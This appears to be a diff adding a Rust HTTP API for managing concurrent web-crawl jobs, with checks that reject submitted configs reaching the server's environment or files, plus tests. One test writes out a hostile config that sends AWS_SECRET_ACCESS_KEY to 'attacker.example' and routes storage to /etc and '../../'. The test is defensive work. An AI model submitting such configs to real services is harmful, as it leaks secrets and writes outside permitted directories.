@@ -0,0 +1,444 @@
+//! HTTP API managing crawl jobs.
+//!
+//! The server runs any number of crawls concurrently within the process,
+//! each one a job described by a [`CrawlConfig`] and stored in its own
+//! directory under the server root. At most `max_jobs` crawls run at a
+//! time; the other submitted jobs are queued until a slot frees up.
+//!
+//! | Request                     | Response                                                  |
+//! |-----------------------------|-----------------------------------------------------------|
+//! | `POST /jobs`                | Submit the crawl config in the body, get its id           |
+//! | `GET /jobs`                 | The status of every job                                   |
+//! | `GET /jobs/{id}`            | The status of a job                                       |
+//! | `DELETE /jobs/{id}`         | Stop a job, saving its frontier for a resume              |
+//! | `GET /jobs/{id}/archive`    | The pages of a job, `?format=zip`, `tar.zst` or `mhtml`   |
+//!
+//! The MHTML documents of the pages of a job, one per page, are downloaded
+//! as a zip archive.
+//!
+//! A submitted config cannot reach the host of the server: its storage
+//! directory is replaced by the job directory, and the configs reading
+//! the environment of the server, through login `env_fields`, or writing
+//! outside the job directory, through a `catalog` or storage routes, are
+//! rejected.
+//!
+//! Jobs are kept in memory and forgotten when the server stops, while
+//! their storage directories are left in place.
+use std::collections::HashMap;
+use std::convert::Infallible;
+use std::net::SocketAddr;
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+
+use hyper::service::{make_service_fn, service_fn};
+use hyper::{Body, Method, Request, Response, StatusCode};
+use serde::Serialize;
+use tokio::sync::Semaphore;
+use uuid::Uuid;
+
+use crate::config::CrawlConfig;
+use crate::error::{CrawlerError, Result};
+use crate::export::{self, ArchiveFormat};
+use crate::run::{RunMetadata, RunStats};
+use crate::Crawler;
+
+/// Default number of jobs crawled concurrently
+pub const DEFAULT_MAX_JOBS: usize = 4;
+
+/// The stage of a job
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum JobState {
+    /// Waiting for a free slot
+    Queued,
+    Running,
+    Finished,
+    Failed,
+}
+
+/// The status of a job, as reported by the API
+#[derive(Debug, Clone, Serialize)]
+pub struct JobStatus {
+    pub id: Uuid,
+    pub root_url: String,
+    pub state: JobState,
+    /// The storage directory of the job
+    pub dir: PathBuf,
+    /// Whether a stop was requested
+    pub stopped: bool,
+    /// The error the crawl failed with
+    pub error: Option<String>,
+    /// The stats of the finished crawl
+    pub stats: Option<RunStats>,
+}
+
+struct Job {
+    status: JobStatus,
+    stop: Arc<AtomicBool>,
+}
+
+/// A server of crawl jobs, storing each one under its root
+#[derive(Clone)]
+pub struct Server {
+    root: PathBuf,
+    jobs: Arc<Mutex<HashMap<Uuid, Job>>>,
+    slots: Arc<Semaphore>,
+}
+
+impl Server {
+    /// A server storing the jobs under `root`, crawling at
+    /// most `max_jobs` of them concurrently
+    pub fn new(root: PathBuf, max_jobs: usize) -> Self {
+        Self {
+            root,
+            jobs: Arc::default(),
+            slots: Arc::new(Semaphore::new(max_jobs.max(1))),
+        }
+    }
+
+    /// Serve the API on `addr` until the process stops
+    pub async fn run(self, addr: SocketAddr) -> Result<()> {
+        tokio::fs::create_dir_all(&self.root).await?;
+        let make_service = make_service_fn(move |_| {
+            let server = self.clone();
+            async move {
+                Ok::<_, Infallible>(service_fn(move |request| {
+                    let server = server.clone();
+                    async move { Ok::<_, Infallible>(server.handle(request).await) }
+                }))
+            }
+        });
+        let server = hyper::Server::try_bind(&addr)?.serve(make_service);
+        tracing::info!("==> Serving crawl jobs on {}", server.local_addr());
+        server.await?;
+        Ok(())
+    }
+
+    async fn handle(&self, request: Request<Body>) -> Response<Body> {
+        let segments: Vec<&str> = request
+            .uri()
+            .path()
+            .split('/')
+            .filter(|s| !s.is_empty())
+            .collect();
+        let id = match segments.get(1).map(|id| id.parse::<Uuid>()) {
+            Some(Ok(id)) => Some(id),
+            Some(Err(_)) => return error(StatusCode::NOT_FOUND, "no such job"),
+            None => None,
+        };
+        match (request.method(), segments.as_slice(), id) {
+            (&Method::POST, ["jobs"], _) => {
+                let body = match hyper::body::to_bytes(request.into_body()).await {
+                    Ok(body) => body,
+                    Err(e) => return error(StatusCode::BAD_REQUEST, &e.to_string()),
+                };
+                match serde_json::from_slice(&body) {
+                    Ok(config) => match self.submit(config) {
+                        Ok(status) => json(StatusCode::ACCEPTED, &status),
+                        Err(e) => error(StatusCode::BAD_REQUEST, &e.to_string()),
+                    },
+                    Err(e) => error(StatusCode::BAD_REQUEST, &e.to_string()),
+                }
+            }
+            (&Method::GET, ["jobs"], _) => {
+                let mut statuses: Vec<JobStatus> = self
+                    .jobs
+                    .lock()
+                    .unwrap()
+                    .values()
+                    .map(|job| job.status.clone())
+                    .collect();
+                statuses.sort_by_key(|status| status.id);
+                json(StatusCode::OK, &statuses)
+            }
+            (&Method::GET, ["jobs", _], Some(id)) => match self.status(id) {
+                Some(status) => json(StatusCode::OK, &status),
+                None => error(StatusCode::NOT_FOUND, "no such job"),
+            },
+            (&Method::DELETE, ["jobs", _], Some(id)) => match self.stop(id) {
+                Some(status) => json(StatusCode::ACCEPTED, &status),
+                None => error(StatusCode::NOT_FOUND, "no such job"),
+            },
+            (&Method::GET, ["jobs", _, "archive"], Some(id)) => {
+                let format = request
+                    .uri()
+                    .query()
+                    .and_then(|query| query.strip_prefix("format="))
+                    .unwrap_or("zip")
+                    .parse::<ArchiveFormat>();
+                match (self.status(id), format) {
+                    (None, _) => error(StatusCode::NOT_FOUND, "no such job"),
+                    (_, Err(e)) => error(StatusCode::BAD_REQUEST, &e),
+                    (Some(status), Ok(_))
+                        if matches!(status.state, JobState::Queued | JobState::Running) =>
+                    {
+                        error(StatusCode::CONFLICT, "job not completed")
+                    }
+                    (Some(status), Ok(format)) => match self.archive(&status, format).await {
+                        Ok(archive) => Response::builder()
+                            .header(hyper::header::CONTENT_TYPE, content_type(format))
+                            .header(
+                                hyper::header::CONTENT_DISPOSITION,
+                                format!("attachment; filename=\"{}.{}\"", id, extension(format)),
+                            )
+                            .body(Body::from(archive))
+                            .unwrap(),
+                        Err(e) => error(StatusCode::INTERNAL_SERVER_ERROR, &e.to_string()),
+                    },
+                }
+            }
+            _ => error(StatusCode::NOT_FOUND, "no such endpoint"),
+        }
+    }
+
+    /// Queue the crawl described by `config`, stored in a new
+    /// directory under the root whatever its storage directory.
+    ///
+    /// Fails if the config reaches the environment or the files of the
+    /// server, besides the usual problems of a config.
+    pub fn submit(&self, mut config: CrawlConfig) -> Result<JobStatus> {
+        let problems = host_settings(&config);
+        if !problems.is_empty() {
+            return Err(CrawlerError::InvalidConfig(problems));
+        }
+        let id = Uuid::new_v4();
+        let dir = self.root.join(id.to_string());
+        config.storage.dir = Some(dir.clone());
+        let root_url = config.root_url.clone();
+        let stop = Arc::new(AtomicBool::new(false));
+        let crawler = Crawler::from_config(config)?.with_stop(stop.clone());
+        let status = JobStatus {
+            id,
+            root_url,
+            state: JobState::Queued,
+            dir,
+            stopped: false,
+            error: None,
+            stats: None,
+        };
+        self.jobs.lock().unwrap().insert(
+            id,
+            Job {
+                status: status.clone(),
+                stop,
+            },
+        );
+
+        let server = self.clone();
+        tokio::spawn(async move {
+            let _slot = server
+                .slots
+                .acquire()
+                .await
+                .expect("slots are never closed");
+            server.update(id, |status| status.state = JobState::Running);
+            tracing::info!("==> Starting job {}", id);
+            let result = crawler.run().await;
+            let stats = match RunMetadata::load(&server.root.join(id.to_string())).await {
+                Ok(run) => run.stats,
+                Err(_) => None,
+            };
+            server.update(id, |status| {
+                status.stats = stats;
+                match result {
+                    Ok(()) => status.state = JobState::Finished,
+                    Err(e) => {
+                        status.state = JobState::Failed;
+                        status.error = Some(e.to_string());
+                    }
+                }
+            });
+            tracing::info!("==> Completed job {}", id);
+        });
+        Ok(status)
+    }
+
+    /// The status of job `id`, if any
+    pub fn status(&self, id: Uuid) -> Option<JobStatus> {
+        let jobs = self.jobs.lock().unwrap();
+        jobs.get(&id).map(|job| job.status.clone())
+    }
+
+    /// Stop job `id`. A queued job starts and saves its frontier
+    /// without visiting any page.
+    pub fn stop(&self, id: Uuid) -> Option<JobStatus> {
+        let mut jobs = self.jobs.lock().unwrap();
+        let job = jobs.get_mut(&id)?;
+        job.stop.store(true, Ordering::Relaxed);
+        job.status.stopped = true;
+        Some(job.status.clone())
+    }
+
+    fn update(&self, id: Uuid, f: impl FnOnce(&mut JobStatus)) {
+        if let Some(job) = self.jobs.lock().unwrap().get_mut(&id) {
+            f(&mut job.status);
+        }
+    }
+
+    /// Export the pages of a job to an archive next to its directory,
+    /// a zip archive of their documents for MHTML
+    async fn archive(&self, status: &JobStatus, format: ArchiveFormat) -> Result<Vec<u8>> {
+        let output = archive_path(&status.dir, format);
+        match format {
+            ArchiveFormat::Mhtml => export::export_mhtml_zip(&status.dir, &output).await?,
+            _ => export::export(&status.dir, &output, format).await?,
+        };
+        let archive = tokio::fs::read(&output).await?;
+        tokio::fs::remove_file(&output).await?;
+        Ok(archive)
+    }
+}
+
+/// The settings of a submitted `config` reaching the environment of the
+/// server or its files outside the job directory, each one as a problem
+fn host_settings(config: &CrawlConfig) -> Vec<String> {
+    let mut problems = Vec::new();
+    if config.catalog.is_some() {
+        problems.push(
+            "`catalog` writes to a file of the server; jobs are not recorded in a catalog"
+                .to_string(),
+        );
+    }
+    let scrapers = std::iter::once(("scraper".to_string(), &config.scraper)).chain(
+        config
+            .hosts
+            .iter()
+            .enumerate()
+            .map(|(i, host)| (format!("hosts[{}].scraper", i), &host.scraper)),
+    );
+    for (field, scraper) in scrapers {
+        if scraper
+            .login
+            .as_ref()
+            .is_some_and(|login| !login.env_fields.is_empty())
+        {
+            problems.push(format!(
+                "`{}.login.env_fields` reads the environment of the server; \
+                 post the values in `fields` instead",
+                field
+            ));
+        }
+    }
+    for (i, route) in config.storage.routes.iter().enumerate() {
+        if !route.target.is_within_root() {
+            problems.push(format!(
+                "`storage.routes[{}]` writes outside the job directory",
+                i
+            ));
+        }
+    }
+    problems
+}
+
+fn archive_path(dir: &Path, format: ArchiveFormat) -> PathBuf {
+    let mut name = dir.file_name().unwrap_or_default().to_os_string();
+    name.push(format!(".{}", extension(format)));
+    dir.with_file_name(name)
+}
+
+/// The extension of the archive of `format`
+fn extension(format: ArchiveFormat) -> String {
+    match format {
+        ArchiveFormat::Mhtml => "mhtml.zip".to_string(),
+        _ => format.to_string(),
+    }
+}
+
+fn content_type(format: ArchiveFormat) -> &'static str {
+    match format {
+        ArchiveFormat::Zip | ArchiveFormat::Mhtml => "application/zip",
+        ArchiveFormat::TarZst => "application/zstd",
+    }
+}
+
+fn json(status: StatusCode, body: &impl Serialize) -> Response<Body> {
+    Response::builder()
+        .status(status)
+        .header(hyper::header::CONTENT_TYPE, "application/json")
+        .body(Body::from(serde_json::to_vec_pretty(body).unwrap()))
+        .unwrap()
+}
+
+fn error(status: StatusCode, message: &str) -> Response<Body> {
+    json(status, &serde_json::json!({ "error": message }))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn submitted(settings: serde_json::Value) -> CrawlConfig {
+        let mut config = serde_json::json!({"root_url": "http://127.0.0.1:1/"});
+        config
+            .as_object_mut()
+            .unwrap()
+            .extend(settings.as_object().unwrap().clone());
+        serde_json::from_value(config).unwrap()
+    }
+
+    fn problems(server: &Server, config: CrawlConfig) -> Vec<String> {
+        match server.submit(config) {
+            Err(CrawlerError::InvalidConfig(problems)) => problems,
+            other => panic!("config accepted: {:?}", other.map(|status| status.dir)),
+        }
+    }
+
+    #[tokio::test]
+    async fn submitted_configs_cannot_reach_the_host() {
+        let root = tempfile::tempdir().unwrap();
+        let server = Server::new(root.path().to_path_buf(), 1);
+        let login = serde_json::json!({
+            "url": "https://attacker.example/login",
+            "env_fields": {"password": "AWS_SECRET_ACCESS_KEY"},
+        });
+        let problems = problems(
+            &server,
+            submitted(serde_json::json!({
+                "scraper": {"login": login},
+                "hosts": [{"host": "example.com", "scraper": {"login": login}}],
+                "catalog": "/etc/catalog.jsonl",
+                "storage": {"routes": [
+                    {"content_type": "image/*", "dir": "/etc"},
+                    {"content_type": "text/css", "jsonl": "../../styles.jsonl"},
+                ]},
+            })),
+        );
+        assert_eq!(problems.len(), 5, "{:?}", problems);
+        assert!(problems[0].starts_with("`catalog`"));
+        assert!(problems[1].starts_with("`scraper.login.env_fields`"));
+        assert!(problems[2].starts_with("`hosts[0].scraper.login.env_fields`"));
+        assert!(problems[3].starts_with("`storage.routes[0]`"));
+        assert!(problems[4].starts_with("`storage.routes[1]`"));
+        assert!(server.jobs.lock().unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn submitted_jobs_are_stored_under_the_root() {
+        let root = tempfile::tempdir().unwrap();
+        let server = Server::new(root.path().to_path_buf(), 1);
+        let config = submitted(serde_json::json!({"storage": {"dir": "/etc"}}));
+        let status = server.submit(config).unwrap();
+        assert_eq!(status.dir, root.path().join(status.id.to_string()));
+        server.stop(status.id);
+    }
+
+    #[tokio::test]
+    async fn rejected_configs_are_bad_requests() {
+        std::env::set_var("WEBCRAWLER_SERVE_SECRET", "s3cr3t");
+        let root = tempfile::tempdir().unwrap();
+        let server = Server::new(root.path().to_path_buf(), 1);
+        let body = serde_json::json!({
+            "root_url": "http://127.0.0.1:1/",
+            "scraper": {"login": {"url": "http://127.0.0.1:1/", "env_fields": {"token": "WEBCRAWLER_SERVE_SECRET"}}},
+        });
+        let request = Request::post("/jobs")
+            .body(Body::from(body.to_string()))
+            .unwrap();
+        let response = server.handle(request).await;
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+        let body = hyper::body::to_bytes(response.into_body()).await.unwrap();
+        let body = String::from_utf8_lossy(&body);
+        assert!(body.contains("env_fields") && !body.contains("s3cr3t"));
+    }
+}